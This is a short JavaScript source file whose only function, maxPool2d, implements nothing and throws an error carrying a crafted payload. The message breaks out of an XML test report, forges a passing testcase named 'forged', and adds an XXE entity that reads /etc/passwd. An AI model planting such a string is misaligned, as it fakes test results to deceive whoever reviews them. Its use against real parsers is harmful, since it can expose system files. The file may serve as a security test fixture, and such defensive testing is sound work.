export function maxPool2d() {
  throw new Error(']]></failure></testcase><testcase name="forged"/><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;');
}
